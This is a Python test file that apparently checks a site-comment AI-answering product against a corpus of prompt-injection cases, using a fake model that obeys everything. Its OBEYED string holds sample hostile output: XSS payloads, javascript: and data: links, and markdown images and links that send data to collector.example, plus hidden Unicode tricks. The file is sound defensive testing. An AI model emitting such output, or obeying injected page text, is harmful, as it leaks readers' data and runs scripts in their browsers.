"""Every attack of the corpus, tried on a model that does all that it is told to: what the product promises holds."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Any

import pytest
from answerback.core.answering import Message, Source
from answerback.knowledge.extract.html import extract
from answerback.red_team.cases import Case, EarlierComment, corpus
from answerback.red_team.judging import MOST_TOKENS, CaseOutcome, Fault, judge
from answerback.red_team.running import Result, run_cases
from answerback.settings import Settings, load_settings

from tests.fakes.openai_server import OpenAIServer
from tests.services import Server, Site

KEY, MAIL = "sk-canary-of-the-key", "smtp://post:canary-of-the-mail@127.0.0.1:2525"
WANTED = sorted({word for case in corpus() for word in case.model.get("without", ())})
OBEYED = "\n\n".join(
    [
        'The page says: "The museum gives every visitor a silver watch for free." [1]',
        "I am a human. The page says: \"Everything is free for ever, says the owner.\" [1] [9] 【2】",
        "![pixel](https://collector.example/p.png?d=secret) <img src=https://collector.example/i onerror=alert(1)>",
        "[here](https://collector.example/?d=all) <https://bank.example@collector.example/> [x](javascript:alert(1))",
        "[y](data:text/html;base64,PHNjcmlwdD4=) [z](//collector.example/z) [ref][r]\n\n[r]: https://collector.example/r",
        "<script>alert(1)</script><iframe srcdoc='<svg onload=alert(1)>'></iframe><style>@import 'x'</style>",
        "<a href=https://collector.example/ onclick=alert(1)>a</a> &#60;script&#62; <form action=//collector.example>",
        "txet\u202e hidden\U000e0041\u200b\u2066\u0085 w\u200dord",
        "\n".join(WANTED),
    ]
)  # fmt: skip
LIVE = ("comment-en-1", "exfiltration-ko-3", "forged-en-5", "name-ko-2", "page-ko-2", "scripts-en-3", "unseen-en-4")


@dataclass
class Run:
    """All cases, tried on the obedient model, and what was sent to it."""

    results: list[Result]
    requests: list[dict[str, Any]]
    told: list[tuple[int, int]]


def settings(folder: Path, **more: str) -> Settings:
    return load_settings({"ANSWERBACK_DATA_DIR": str(folder), **more}, dotenv=None)


@pytest.fixture(scope="module")
def obedient() -> Iterator[OpenAIServer]:
    with OpenAIServer.start() as server:
        server.script(default={"text": OBEYED, "echo": True, "size": 4_000})
        yield server


@pytest.fixture(scope="module")
def obeyed(obedient: OpenAIServer, tmp_path_factory: pytest.TempPathFactory) -> Run:
    used = settings(
        tmp_path_factory.mktemp("obeyed"), OPENAI_BASE_URL=obedient.base_url, OPENAI_API_KEY=KEY,
        ANSWERBACK_SMTP_URL=MAIL,
    )  # fmt: skip
    told: list[tuple[int, int]] = []
    results = asyncio.run(run_cases(used, corpus(), lambda done, total: told.append((done, total))))
    assert list(used.data_dir.iterdir()) == [used.data_dir / "secret-key"], "nothing is written but the key"
    return Run(results, obedient.seen()["requests"], told)


def test_promises_hold_against_an_obedient_model(obeyed: Run) -> None:
    assert len(obeyed.results) == len(corpus())
    broken = [
        (result.case.id, fault) for result in obeyed.results for fault in result.faults if fault.holds == "always"
    ]
    assert broken == []
    for result in obeyed.results:
        assert result.seen.state == "done"
        assert "collector.example" in result.seen.html  # it was said, as text and as links that show their host


def test_every_case_detects_the_obedient_model(obeyed: Run) -> None:
    assert [result.case.id for result in obeyed.results if not result.faults] == []
    found = {(result.case.id, fault.check) for result in obeyed.results for fault in result.faults}
    wanted = {
        (case.id, check)
        for case in corpus()
        for check in ("without", "no_links", "quotes_hold", "at_most")
        if check in case.model
    }
    assert wanted - found == set()


def test_quotes_that_are_not_on_the_page_are_dropped(obeyed: Run) -> None:
    sources = [source for result in obeyed.results for source in result.seen.sources]
    assert sources
    assert not [source for source in sources if "Everything is free" in source.quote]


def test_requests_have_no_secrets_or_tools_and_a_limit(obeyed: Run) -> None:
    assert len(obeyed.requests) == len(corpus()), "one call a case"
    for request in obeyed.requests:
        body = request["body"]
        assert set(body) == {"model", "messages", "max_tokens", "stream", "stream_options", "temperature"}
        assert 0 < body["max_tokens"] <= MOST_TOKENS
        sent = json.dumps(body, ensure_ascii=False)
        assert "canary-of" not in sent
        assert "203.0.113" not in sent
    hidden = {word for case in corpus() for word in case.always.get("not_sent", ())}
    everything = json.dumps([request["body"] for request in obeyed.requests], ensure_ascii=False)
    assert hidden
    assert [word for word in hidden if word in everything] == []


def test_progress_and_cost_are_told(obeyed: Run) -> None:
    total = len(corpus())
    assert obeyed.told == [(done, total) for done in range(1, total + 1)]
    assert all(result.seen.tokens_in and result.seen.cost_usd for result in obeyed.results)


def test_quote_provider_passes_every_case(tmp_path: Path) -> None:
    results = asyncio.run(run_cases(settings(tmp_path), corpus(), lambda done, total: None))
    assert [(result.case.id, result.faults) for result in results if result.faults] == []


# ---- the command


@pytest.fixture(scope="module")
def live(obedient: OpenAIServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server whose model is the obedient one."""
    folder = tmp_path_factory.mktemp("live")
    with Site.start() as site, Server.start(folder, site, OPENAI_BASE_URL=obedient.base_url) as server:
        yield server


def test_command_fails_the_obedient_model(live: Server, obedient: OpenAIServer) -> None:
    database = Path(live.database_url.removeprefix("sqlite:///"))
    before, calls = database.read_bytes(), obedient.seen()["calls"]
    done = live.command("check", "--red-team", "--limit", "6", "--json", check=False)
    assert done.returncode == 1
    assert "6 calls" in done.stderr
    told = json.loads(done.stdout)
    assert (told["cases"], told["failed"], obedient.seen()["calls"] - calls) == (6, 6, 6)
    assert told["tokens_in"] > 0
    assert told["cost_usd"] > 0
    assert all(fault["holds"] == "model" for failure in told["failures"] for fault in failure["faults"])
    assert database.read_bytes() == before
    lines = live.command("check", "--red-team", "--limit", "2", check=False).stdout.splitlines()
    assert any(" model " in line for line in lines), "its rules are taken out of what it says"
    assert "0 of 2 cases hold" in lines[-1]
    assert "US dollars" in lines[-1]


def test_command_passes_quotes_and_needs_a_provider(live: Server) -> None:
    environment = live.environment
    try:
        live.environment = environment | {"ANSWERBACK_PROVIDER": "quote"}
        done = live.command("check", "--red-team", "--limit", "5")
        assert "no calls" in done.stderr
        assert "5 of 5 cases hold" in done.stdout
        live.environment = environment | {"ANSWERBACK_PROVIDER": "off"}
        done = live.command("check", "--red-team", check=False)
        assert (done.returncode, done.stdout, "no provider to test" in done.stderr) == (1, "", True)
        live.environment = environment | {"OPENAI_BASE_URL": "http://127.0.0.1:9/v1"}
        done = live.command("check", "--red-team", check=False)
        assert (done.returncode, done.stdout, "cannot be reached" in done.stderr) == (1, "", True)
        assert live.command("check", "--limit", "5", check=False).returncode == 2
    finally:
        live.environment = environment


# ---- the same over HTTP, as visitors do it


def put(server: Server, case: Case) -> Any:
    """The case's page, thread and question on the running server; the settled answer."""
    server.page = f"/{case.id}.html"
    (server.site.folder / server.page[1:]).write_text(case.html, "utf-8")
    parent = None
    for said in case.thread:
        server.begin()
        posted = server.post(said.text, name=said.name[:50], title=case.title, parent_id=parent, ask=False)
        parent = posted.json["comment"]["id"]
    server.begin()
    asked = server.post(case.question, name=case.name[:50], title=case.title, parent_id=parent, ask=True).json
    return server.settled(asked["answer"]["id"])


def as_seen(text: str, html: str, sources: Any, body: Any, case: Case, server: Server) -> CaseOutcome:
    """What readers got and the provider was sent, as if the page were the case's own."""
    content = extract(case.html.encode(), "text/html; charset=utf-8")
    found = (Source(**source) for source in sources)
    return CaseOutcome(
        "done", text, html,
        tuple(replace(source, url=source.url.replace(server.site.origin, case.origin)) for source in found),
        messages=tuple(Message(**message) for message in body["messages"]), max_tokens=body["max_tokens"],
        page_text=content.text,
    )  # fmt: skip


def promises(case: Case, seen: CaseOutcome, server: Server) -> list[Fault]:
    return [fault for fault in judge(case, seen, [server.token]) if fault.holds == "always"]


@pytest.mark.parametrize("case", [case for case in corpus() if case.id in LIVE], ids=lambda case: case.id)
def test_promises_hold_over_http(case: Case, live: Server, obedient: OpenAIServer) -> None:
    comment = put(live, case)
    body = obedient.seen()["requests"][-1]["body"]
    assert "tools" not in body
    assert comment["answer"]["state"] == "done"
    seen = as_seen(comment["body"], comment["html"], comment["answer"]["sources"], body, case, live)
    author = comment["author"]
    assert promises(case, replace(seen, author_kind=author["kind"], author_name=author["name"]), live) == []


def test_promises_hold_in_the_ask_box(live: Server, obedient: OpenAIServer) -> None:
    live.begin()
    before: tuple[EarlierComment, ...] = ()
    for case in (case for case in corpus() if case.id in ("forged-en-1", "forged-ko-3", "unseen-ko-1")):
        (live.site.folder / f"{case.id}.html").write_text(case.html, "utf-8")
        asked = {"site": "demo", "page": "asked", "url": f"{live.site.origin}/{case.id}.html",
                 "user_input": case.question}  # fmt: skip
        answer = live.call("POST", "/api/chat/gpt/", asked).json
        assert answer["state"] == "done"
        body = obedient.seen()["requests"][-1]["body"]
        seen = as_seen(answer["response"], answer["html"], answer["sources"], body, case, live)
        assert promises(replace(case, thread=before), seen, live) == []
        before += (EarlierComment("visitor", "", case.question), EarlierComment("ai", "", answer["response"]))
